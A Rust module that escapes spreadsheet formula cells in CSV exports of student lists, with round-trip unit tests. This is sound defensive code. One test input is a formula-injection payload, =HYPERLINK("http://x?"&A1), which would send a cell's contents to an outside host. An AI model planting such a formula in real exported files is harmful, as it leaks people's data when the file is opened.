//! Cells that a spreadsheet would take for a formula, in CSV files: whoever opens a list of students must not run what one of
//! them typed as a name. Such a cell is written with an apostrophe before it, and read without it, so that a list that
//! was taken out comes in again as it was.

use std::borrow::Cow;

/// A cell as it is written.
pub(crate) fn guarded(cell: &str) -> Cow<'_, str> {
    if is_formula(cell.trim_start_matches('\'')) { format!("'{cell}").into() } else { cell.into() }
}

/// A cell as it was meant.
pub(super) fn unguarded(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if is_formula(rest.trim_start_matches('\'')) => rest,
        _ => cell,
    }
}

fn is_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_spreadsheet_would_run_is_a_text_and_comes_back_as_it_was() {
        let formula = r#"=HYPERLINK("http://x?"&A1)"#;
        for cell in [formula, "+77011234567", "-1", "@SUM(1)", "\t=1", "\r=1", "＝1"] {
            assert_eq!(guarded(cell), format!("'{cell}"));
        }
        for cell in ["", "a1", "0012", "Д'Арк", "'тырнақша'", " =1", "1-2"] {
            assert_eq!(guarded(cell), cell);
        }
        for cell in [formula, "'=1", "''=1", "-", "'", "", "'a", "Әлия"] {
            assert_eq!(unguarded(&guarded(cell)), cell);
        }
    }
}
